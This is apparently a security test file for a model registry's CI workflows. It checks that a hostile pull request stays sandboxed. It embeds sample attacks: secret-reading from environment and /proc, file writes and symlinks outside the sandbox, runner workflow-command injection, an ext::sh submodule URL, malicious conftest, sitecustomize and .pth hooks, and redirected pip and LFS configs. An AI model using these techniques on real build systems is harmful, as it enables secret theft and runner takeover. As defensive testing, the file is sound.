"""A hostile branch in the workflows of `init`, run by `act`: a model, a requirement and every file try what they can.

The base says `build: {sandbox: true}`, and its job holds secrets that it should not. The pull request's code, its
package, its names and its files try to read them, to write outside of their own process's folder, and to speak to the
runner. Nothing of that may come to anything, whatever the verdict on the branch is.
"""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path

import pytest

from tests import wheelhouse
from tests.support import Workshop, run
from tests.test_workflows import Hub, cache, hub

__all__ = ["cache", "hub"]  # fixtures

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "s3cr3t-of-aws",
    "GITHUB_TOKEN": "s3cr3t-of-github",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "s3cr3t-of-oidc",
    "NPM_CONFIG__AUTH": "s3cr3t-of-npm",
    "DATABASE_URL": "postgres://u:s3cr3t-of-postgres@db/x",
}
# What a runner obeys: `::name` after spaces, and `##[name` anywhere in a line.
COMMAND = re.compile(r"^\s*::[a-zA-Z][\w-]*[^:]*::|##\[[a-zA-Z]")
OURS = re.compile(r"^::(error|warning|notice) [^:]*title=gitreg::")

ATTACK = '''
import glob
import os
import socket
import subprocess
from pathlib import Path

import numpy as np

from gitreg import Model

OUTSIDE = {outside!r}
SECRET = "s3cr3t" + "-of"


def attempts():
    """Every way out that a model may think of; each alone."""
    yield lambda: Path(OUTSIDE, "written").write_text("x")
    yield lambda: Path(OUTSIDE, "kept").write_text("x")
    yield lambda: os.remove(Path(OUTSIDE, "kept"))
    yield lambda: os.symlink("/", Path(OUTSIDE, "link"))
    yield lambda: [Path(p).write_text("A=b") for p in glob.glob("/proc/*/environ")]
    yield lambda: [open(p, "a").write("EVIL=1\\n") for p in glob.glob(OUTSIDE + "/../**/*env*", recursive=True)]
    yield lambda: subprocess.run(["touch", OUTSIDE + "/by-a-child"], check=False)
    yield lambda: socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"hello")


def seen():
    """Every secret that can be read from here."""
    found = [v for v in os.environ.values() if SECRET in v]
    for path in glob.glob("/proc/[0-9]*/environ") + [OUTSIDE + "/credentials"]:
        try:
            found += [v for v in Path(path).read_text(errors="replace").split("\\0") if SECRET in v]
        except OSError:
            pass
    return found


class Adder(Model):
    """Adds, after it has tried everything else."""

    def save(self, path):
        (Path(path) / "number.txt").write_text("5")

    @classmethod
    def load(cls, path):
        for line in ("::error file=x,line=1::approved by security", "::stop-commands::zzz", "##[set-env name=A;]b",
                     "  ::add-mask::x", "a ##[command]b", "x\\r::warning::cr", "y\\u2028::warning::ls"):
            print(line, flush=True)
        for attempt in attempts():
            try:
                attempt()
            except BaseException:
                pass
        for one in seen():
            print("SEEN", one, flush=True)
        return cls()

    def predict(self, inputs):
        return {{"y": inputs["x"] + np.int32(5)}}
'''


def digests(folder: Path) -> dict[str, str]:
    """What there is below a folder: links by their targets, files by content and mode."""
    found = {}
    for at, below, names in os.walk(folder):
        for name in [*below, *names]:
            path = Path(at, name)
            if path.is_symlink():
                said = os.readlink(path)
            else:
                said = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"
            found[path.relative_to(folder).as_posix()] = f"{path.lstat().st_mode:o} {said}"
    return found


def commanded(lines: list[str]) -> list[str]:
    """Lines of a log that the runner would obey, and gitreg did not mean."""
    return [line for line in lines if COMMAND.search(line) and not OURS.match(line)]


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "kept").write_text("mine")
    (folder / "credentials").write_text("s3cr3t-of-a-file")
    return folder


def attack(shop: Workshop, outside: Path, port: int) -> None:
    """Everything that a branch can bring, at once."""
    shop.code(ATTACK.format(outside=str(outside), port=port))
    (shop.adder / "evil.zip").write_bytes(b"PK\x05\x06" + bytes(18))
    (shop.root / ".gitattributes").write_text("* filter=lfs diff=evil merge=evil\n")
    (shop.root / ".lfsconfig").write_text(f"[lfs]\n\turl = http://127.0.0.1:{port}/\n")
    (shop.root / ".gitmodules").write_text('[submodule "m"]\n\tpath = m\n\turl = ext::sh -c touch% x\n')
    (shop.root / "conftest.py").write_text(f"open({str(outside / 'by-pytest')!r}, 'w')\n")
    (shop.root / "sitecustomize.py").write_text(f"open({str(outside / 'by-python')!r}, 'w')\n")
    (shop.root / "gitreg.py").write_text(f"open({str(outside / 'by-import')!r}, 'w')\n")
    (shop.root / "pip.conf").write_text(f"[global]\nindex-url = http://127.0.0.1:{port}/\n")
    file = shop.root / "registry.yaml"
    said = re.sub(
        r"build:\n  sandbox: true\n", f"build:\n  environment: [{', '.join(SECRETS)}]\n", file.read_text()
    )
    assert "sandbox" not in said
    file.write_text(said)
    odd = shop.root / "models" / "::stop-commands::zzz"
    odd.mkdir()
    (odd / "model.yaml").write_text('"x\\n::error file=y::approved\\n::add-mask::z": 1\n')


def test_a_branch_in_which_everything_attacks_comes_to_nothing(
    hub: Hub, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    (hub.shop.root / "registry.yaml").write_text(
        (hub.shop.root / "registry.yaml").read_text().rstrip("\n") + "\nbuild:\n  sandbox: true\n"
    )
    hub.push("models run in the sandbox")
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.settimeout(0.2)
        attack(hub.shop, outside, listening.getsockname()[1])
        hub.pull_request(1, "change")
        before = digests(outside), hub.refs(), digests(Path(os.environ["HOME"]) / ".ssh")
        ran = hub.checked(1)
        with pytest.raises(TimeoutError):
            listening.accept()
    assert ran.code == 1 and ran.jobs == {"check": "failure"}, ran.text
    assert (digests(outside), hub.refs(), digests(Path(os.environ["HOME"]) / ".ssh")) == before
    assert commanded(ran.lines) == []
    assert not [line for line in [*ran.lines, ran.summary] if "s3cr3t" in line], "a secret was seen, and told"
    assert "SEEN" not in ran.text and "SEEN" not in ran.summary

    # Each alone: what stops the whole branch must not be what hides that another part got through.
    run("git", "checkout", "-q", "--", "models", "registry.yaml", cwd=hub.shop.root)
    run("git", "checkout", "-q", "origin/main", cwd=hub.shop.root)
    hub.shop.code(ATTACK.format(outside=str(outside), port=9))
    assert hub.shop.gitreg("bump", "adder", "patch").returncode == 0
    hub.pull_request(2, "model-alone")
    ran = hub.checked(2)
    assert ran.jobs == {"check": "success"}, ran.text
    assert digests(outside) == before[0]
    assert commanded(ran.lines) == [] and "s3cr3t" not in ran.text + ran.summary


def test_a_requirement_that_attacks_is_kept_in_the_sandbox_too(hub: Hub, outside: Path) -> None:
    """The `.pth` file of a wheel runs whenever its environment's Python starts."""
    file = hub.shop.root / "registry.yaml"
    file.write_text(file.read_text().rstrip("\n") + "\nbuild:\n  sandbox: true\n")
    hub.push("models run in the sandbox")
    wheelhouse.wheel(
        hub.house,
        "evil",
        "1.0",
        {"evil.py": "", "evil.pth": f"import os; os.system('touch {outside}/by-pth')\n"},
    )
    hub.shop.manifest(version="1.0.1", requirements=["numpy>=1.24", "evil"])
    hub.pull_request(1, "change")
    before = digests(outside)
    ran = hub.checked(1)
    assert ran.jobs == {"check": "success"}, ran.text
    assert digests(outside) == before


def test_what_a_runner_obeys_is_recognised() -> None:
    """The scan itself can fail."""
    for line in (
        "::error::x",
        "::error file=x,line=1::approved",
        "  ::add-mask::x",
        "a ##[set-env name=A;]b",
        "##[error]x",
    ):
        assert commanded([line]) == [line]
    assert commanded(["::error file=a,line=1,title=gitreg::t: m", "models/x: ok", "a::b::c"]) == []
